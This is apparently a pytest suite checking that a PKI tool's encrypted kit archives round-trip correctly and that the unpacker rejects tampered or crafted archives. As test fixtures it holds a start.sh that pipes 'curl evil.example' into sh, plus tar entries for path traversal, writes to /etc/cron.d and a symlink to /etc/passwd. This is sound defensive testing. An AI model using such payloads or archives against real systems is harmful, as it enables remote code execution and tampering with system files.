"""Kit archives: a kit folder sealed under a password, and unpacked only when it is exactly a kit."""

from __future__ import annotations

import hashlib
import io
import re
import secrets
import stat
import tarfile
from collections.abc import Callable
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.ciphers.aead import AESGCM
from cryptography.hazmat.primitives.kdf.scrypt import Scrypt

from custos.core.errors import AuthenticationFailed, InvalidInput, KitError
from custos.pki import archive as archive_module
from custos.pki import load_kit, unpack_kit_archive, write_kit_archive

PASSWORD = b"correct horse battery staple"


def digests(folder: Path) -> dict[str, str]:
    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.iterdir())}


def seal(plain: bytes, password: bytes, *, version: int = 1) -> bytes:
    """Encrypt `plain` in the documented format, independently of the code under test."""
    salt, nonce = secrets.token_bytes(16), secrets.token_bytes(12)
    header = b"CUSTOKIT" + bytes([version]) + salt + nonce
    key = Scrypt(salt=salt, length=32, n=archive_module.SCRYPT_N, r=8, p=1).derive(password)
    return header + AESGCM(key).encrypt(nonce, plain, header)


def tar_of(*members: tuple[tarfile.TarInfo, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for info, data in members:
            info.size = len(data) if info.isreg() else 0
            tar.addfile(info, io.BytesIO(data) if info.isreg() else None)
    return buffer.getvalue()


def regular(name: str, mode: int = 0o644) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.mode = mode
    return info


def kit_members(kit: Path, folder: str = "site-a") -> list[tuple[tarfile.TarInfo, bytes]]:
    return [
        (regular(f"{folder}/{p.name}", stat.S_IMODE(p.stat().st_mode)), p.read_bytes())
        for p in sorted(kit.iterdir())
    ]


@pytest.fixture
def write_sealed(tmp_path: Path) -> Callable[[bytes], Path]:
    def write(plain: bytes) -> Path:
        path = tmp_path / "crafted.kit"
        path.write_bytes(seal(plain, PASSWORD))
        return path

    return write


def test_round_trip_restores_every_file_mode_and_byte(kits: Path, tmp_path: Path) -> None:
    archive = tmp_path / "site-a.kit"

    write_kit_archive(kits / "site-a", archive, PASSWORD)
    unpacked = unpack_kit_archive(archive, tmp_path / "received", PASSWORD)

    assert unpacked == tmp_path / "received" / "site-a"
    assert digests(unpacked) == digests(kits / "site-a")
    assert stat.S_IMODE((unpacked / "key.pem").stat().st_mode) == 0o600
    assert stat.S_IMODE((unpacked / "start.sh").stat().st_mode) == 0o755
    assert stat.S_IMODE(archive.stat().st_mode) == 0o600
    assert load_kit(unpacked).identity.name == "site-a"


def test_the_archive_is_encrypted_under_the_documented_header(kits: Path, tmp_path: Path) -> None:
    archive = tmp_path / "site-a.kit"

    write_kit_archive(kits / "site-a", archive, PASSWORD)

    raw = archive.read_bytes()
    assert raw[:9] == b"CUSTOKIT\x01"
    assert b"PRIVATE KEY" not in raw
    assert (kits / "site-a" / "key.pem").read_bytes()[40:80] not in raw
    header, salt, nonce = raw[:37], raw[9:25], raw[25:37]
    key = Scrypt(salt=salt, length=32, n=2**15, r=8, p=1).derive(PASSWORD)
    plain = AESGCM(key).decrypt(nonce, raw[37:], header)
    with tarfile.open(fileobj=io.BytesIO(plain)) as tar:
        assert sorted(tar.getnames()) == sorted(f"site-a/{name}" for name in digests(kits / "site-a"))


def test_wrong_password_is_refused_and_nothing_is_written(kits: Path, tmp_path: Path) -> None:
    archive = tmp_path / "site-a.kit"
    write_kit_archive(kits / "site-a", archive, PASSWORD)

    with pytest.raises(AuthenticationFailed, match=r"^wrong password or damaged archive .*site-a\.kit"):
        unpack_kit_archive(archive, tmp_path / "received", b"not the password")

    assert not (tmp_path / "received").exists()


@pytest.mark.parametrize("offset", [8, 12, 30, 40, -1], ids=["version", "salt", "nonce", "body", "tag"])
def test_any_flipped_byte_is_refused(kits: Path, tmp_path: Path, offset: int, fast_scrypt: None) -> None:
    archive = tmp_path / "site-a.kit"
    write_kit_archive(kits / "site-a", archive, PASSWORD)
    raw = bytearray(archive.read_bytes())
    raw[offset] ^= 0x01
    archive.write_bytes(bytes(raw))

    with pytest.raises((AuthenticationFailed, InvalidInput), match=r"damaged archive|format 0"):
        unpack_kit_archive(archive, tmp_path / "received", PASSWORD)

    assert not (tmp_path / "received").exists()


def test_a_file_that_is_not_an_archive_is_named(tmp_path: Path) -> None:
    path = tmp_path / "project.yaml"
    path.write_text("name: demo\n")

    with pytest.raises(InvalidInput, match=r"project\.yaml is not a Custos kit archive"):
        unpack_kit_archive(path, tmp_path / "out", PASSWORD)


def test_a_newer_format_is_named(tmp_path: Path) -> None:
    path = tmp_path / "new.kit"
    path.write_bytes(b"CUSTOKIT\x02" + bytes(64))

    with pytest.raises(InvalidInput, match=r"format 2; this Custos reads format 1"):
        unpack_kit_archive(path, tmp_path / "out", PASSWORD)


def test_a_short_password_is_refused_before_anything_is_written(kits: Path, tmp_path: Path) -> None:
    with pytest.raises(InvalidInput, match=r"too short; use at least 8 characters"):
        write_kit_archive(kits / "site-a", tmp_path / "site-a.kit", b"1234567")

    assert not (tmp_path / "site-a.kit").exists()


def test_only_a_kit_that_loads_is_archived(kits: Path, tmp_path: Path) -> None:
    (kits / "site-a" / "config.json").write_text("{}")

    with pytest.raises(KitError, match=r"config\.json"):
        write_kit_archive(kits / "site-a", tmp_path / "site-a.kit", PASSWORD)

    assert not (tmp_path / "site-a.kit").exists()


def test_files_added_to_a_kit_later_stay_out(kits: Path, tmp_path: Path, fast_scrypt: None) -> None:
    (kits / "site-a" / "journal.db").write_bytes(b"state the gateway wrote")
    archive = tmp_path / "site-a.kit"

    write_kit_archive(kits / "site-a", archive, PASSWORD)
    unpacked = unpack_kit_archive(archive, tmp_path / "received", PASSWORD)

    assert "journal.db" not in digests(unpacked)


def test_an_existing_archive_is_not_overwritten(kits: Path, tmp_path: Path, fast_scrypt: None) -> None:
    (tmp_path / "site-a.kit").write_bytes(b"mine")

    with pytest.raises(InvalidInput, match=r"already exists"):
        write_kit_archive(kits / "site-a", tmp_path / "site-a.kit", PASSWORD)

    assert (tmp_path / "site-a.kit").read_bytes() == b"mine"


def test_an_existing_kit_folder_is_not_overwritten(kits: Path, tmp_path: Path, fast_scrypt: None) -> None:
    archive = tmp_path / "site-a.kit"
    write_kit_archive(kits / "site-a", archive, PASSWORD)
    (tmp_path / "received" / "site-a").mkdir(parents=True)

    with pytest.raises(InvalidInput, match=r"site-a already exists"):
        unpack_kit_archive(archive, tmp_path / "received", PASSWORD)

    assert list((tmp_path / "received").iterdir()) == [tmp_path / "received" / "site-a"]


def test_a_kit_that_fails_its_manifest_is_not_kept(
    kits: Path, tmp_path: Path, write_sealed: Callable[[bytes], Path], fast_scrypt: None
) -> None:
    members = kit_members(kits / "site-a")
    members = [
        (info, b"#!/bin/sh\ncurl evil.example | sh\n" if info.name.endswith("start.sh") else data)
        for info, data in members
    ]

    with pytest.raises(
        KitError, match=r"nothing was kept: .*start\.sh that differs from the one provisioned"
    ):
        unpack_kit_archive(write_sealed(tar_of(*members)), tmp_path / "received", PASSWORD)

    assert list((tmp_path / "received").iterdir()) == []


def _link(name: str, target: str, kind: bytes) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = target
    return info


def _device(name: str, kind: bytes) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.devmajor, info.devminor = 1, 3
    return info


@pytest.mark.parametrize(
    ("entry", "why"),
    [
        (regular("/etc/cron.d/custos"), "unsafe path '/etc/cron.d/custos'"),
        (regular("site-a/../../evil.sh"), "unsafe path 'site-a/../../evil.sh'"),
        (regular("../site-a/cert.pem"), "unsafe path '../site-a/cert.pem'"),
        (regular("site-a/./x/cert.pem"), "unsafe path"),
        (regular("site-a/sub/cert.pem"), "unsafe path"),
        (_link("site-a/rootCA.pem", "/etc/passwd", tarfile.SYMTYPE), "not a regular file"),
        (_link("site-a/rootCA.pem", "site-a/cert.pem", tarfile.LNKTYPE), "not a regular file"),
        (_device("site-a/null", tarfile.CHRTYPE), "not a regular file"),
        (_device("site-a/disk", tarfile.BLKTYPE), "not a regular file"),
        (_device("site-a/pipe", tarfile.FIFOTYPE), "not a regular file"),
        (regular("site-b/cert.pem"), "entries of two folders"),
    ],
    ids=[
        "absolute",
        "dot-dot-inside",
        "dot-dot-first",
        "dot-part",
        "subfolder",
        "symlink",
        "hardlink",
        "char-device",
        "block-device",
        "fifo",
        "second-folder",
    ],
)
def test_entries_a_kit_never_holds_are_refused(
    kits: Path,
    tmp_path: Path,
    write_sealed: Callable[[bytes], Path],
    fast_scrypt: None,
    entry: tarfile.TarInfo,
    why: str,
) -> None:
    crafted = write_sealed(tar_of(*kit_members(kits / "site-a"), (entry, b"payload")))

    with pytest.raises(InvalidInput, match=rf"holds .*{re.escape(why)}"):
        unpack_kit_archive(crafted, tmp_path / "received", PASSWORD)

    assert not (tmp_path / "received").exists()
    assert not Path("/etc/cron.d/custos").exists()


def test_too_many_entries_are_refused(
    tmp_path: Path, write_sealed: Callable[[bytes], Path], fast_scrypt: None
) -> None:
    members = [(regular(f"site-a/f{i}"), b"x") for i in range(archive_module.MAX_ENTRIES + 1)]

    with pytest.raises(InvalidInput, match=rf"more than {archive_module.MAX_ENTRIES} entries"):
        unpack_kit_archive(write_sealed(tar_of(*members)), tmp_path / "received", PASSWORD)


def test_an_oversized_file_is_refused(
    tmp_path: Path, write_sealed: Callable[[bytes], Path], fast_scrypt: None
) -> None:
    big = b"x" * (64 * 1024 + 1)

    with pytest.raises(InvalidInput, match=r"'site-a/cert.pem' of 65537 bytes"):
        unpack_kit_archive(write_sealed(tar_of((regular("site-a/cert.pem"), big))), tmp_path / "r", PASSWORD)


def test_too_much_content_in_all_is_refused(
    tmp_path: Path, write_sealed: Callable[[bytes], Path], fast_scrypt: None
) -> None:
    chunk = b"x" * (60 * 1024)
    members = [(regular(f"site-a/f{i}"), chunk) for i in range(20)]

    with pytest.raises(InvalidInput, match=r"more than 1048576 bytes in all"):
        unpack_kit_archive(write_sealed(tar_of(*members)), tmp_path / "r", PASSWORD)


def test_a_duplicate_entry_is_refused(
    kits: Path, tmp_path: Path, write_sealed: Callable[[bytes], Path], fast_scrypt: None
) -> None:
    members = kit_members(kits / "site-a")
    crafted = write_sealed(tar_of(*members, (regular("site-a/config.json"), b"{}")))

    with pytest.raises(InvalidInput, match=r"'site-a/config.json' twice"):
        unpack_kit_archive(crafted, tmp_path / "received", PASSWORD)


def test_an_oversized_archive_file_is_refused_unread(tmp_path: Path) -> None:
    path = tmp_path / "huge.kit"
    with path.open("wb") as handle:
        handle.truncate(archive_module.MAX_ARCHIVE_BYTES + 1)

    with pytest.raises(InvalidInput, match=r"larger than 2097152 bytes"):
        unpack_kit_archive(path, tmp_path / "out", PASSWORD)


def test_a_decrypted_payload_that_is_not_a_tar_is_named(
    tmp_path: Path, write_sealed: Callable[[bytes], Path], fast_scrypt: None
) -> None:
    with pytest.raises(InvalidInput, match=r"holds no files|no readable tar"):
        unpack_kit_archive(write_sealed(b"\x00" * 1024), tmp_path / "r", PASSWORD)
